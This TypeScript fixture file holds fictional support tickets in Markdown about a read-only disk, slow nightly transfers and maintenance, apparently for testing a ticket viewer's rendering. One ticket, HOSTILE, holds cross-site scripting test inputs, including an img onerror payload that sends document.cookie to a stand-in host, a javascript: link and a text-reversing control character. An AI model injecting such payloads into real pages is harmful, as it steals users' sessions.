/** Longer posts of the demo tickets, in Markdown. All of it is fictional. */

export const READ_ONLY_DISK = `Since the resize **last night** the second disk of this instance mounts read-only.

What we did, in this order:

1. stopped the instance,
2. resized it from 16 GB to 32 GB,
3. started it again at about 02:10 UTC.

\`\`\`
EXT4-fs error (device sdb): ext4_journal_check_start:84: Detected aborted journal
EXT4-fs (sdb): Remounting filesystem read-only
\`\`\`

The replica *lags behind* by now. Is the disk in danger, or may we run \`fsck\` on it?`

export const KERNEL_LOG_ANSWER = `Thank you for the details. Nothing on the host points to a failing disk: the journal was cut when the
instance went down before its last writes were done.

Please

- stop the database,
- unmount the disk,
- and run \`e2fsck -f /dev/sdb\`.

> Do **not** run it while the disk is mounted.

If it reports anything but a replayed journal, send us its output before you answer *yes* to a repair.`

export const THROUGHPUT = `We copy about **2.4 TB** each night from \`db-replica-2\` to the bucket \`app-logs\` in us-iad-1. Until last week
that took four hours, now it takes nine. Nothing was changed on our side.

| night      | hours | mean rate  | errors |
|:-----------|------:|-----------:|-------:|
| Monday     |   4.1 | 163 MB/s   |      0 |
| Tuesday    |   4.0 | 167 MB/s   |      0 |
| Wednesday  |   8.7 |  77 MB/s   |     12 |
| Thursday   |   9.2 |  73 MB/s   |     31 |

## What we tried

- [x] another network path (through \`web-frankfurt-1\`): the same
- [x] fewer and more streams at once: 8, 16, 32, 64: the same
- [x] smaller parts: worse
- [ ] another cluster: we cannot, the readers are in us-iad

## How to see it

\`\`\`sh
time curl -sS -T part-0001.bin "$SIGNED_URL" -o /dev/null -w '%{http_code} %{speed_upload}\\n'
\`\`\`

The answer is \`200\` in most cases; the errors in the table are connections that were reset after 30 to 60 seconds, always within
the first ten minutes of an hour. We keep the times of all of them:

\`\`\`
02:03:11 reset after 41 s   part-0007
02:03:58 reset after 38 s   part-0009
02:06:20 reset after 55 s   part-0031
03:01:47 reset after 33 s   part-0188
03:02:02 reset after 44 s   part-0190
03:08:36 reset after 59 s   part-0241
04:00:51 reset after 31 s   part-0377
04:04:15 reset after 47 s   part-0395
\`\`\`

Our own measurements are described at <https://docs.larkspur.example/nightly-copy>; the short version is that the *first byte* of each
answer comes after 20 ms as before, and only the transfer itself is slow. ~~We suspect our firewall.~~ We have ruled out our firewall.

### Questions

1. Was anything changed in the cluster on Tuesday night?
2. Is there a limit for one account that we have reached?
3. Would it help to spread the copy over the whole day?

We are glad to run whatever test you propose. Ines is there from 06:00 to 14:00 UTC, Tomasz after that.`

export const HOSTILE = `Somebody put this into the comment field of our shop, and it shows up in the log that is attached:

<script>alert(document.domain)</script>
<img src=x onerror="fetch('https://collector.example/' + document.cookie)">

[click here](javascript:alert(1)) and ![a picture](https://collector.example/pixel.gif)

The order number is \u202E0001-2026\u202C, which reads backwards in some programs.

We keep it out of our pages; we only want to know **whether your own tools show it as text**.`

export const MAINTENANCE = `On Sunday from 04:00 to 06:00 UTC we replace network equipment in **us-iad**.

- Instances go on running.
- Connections may be interrupted for *up to two minutes*, once.
- Object storage in us-iad-1 answers, more slowly than usual.

There is nothing for you to do. We tell you here when the work is done.`
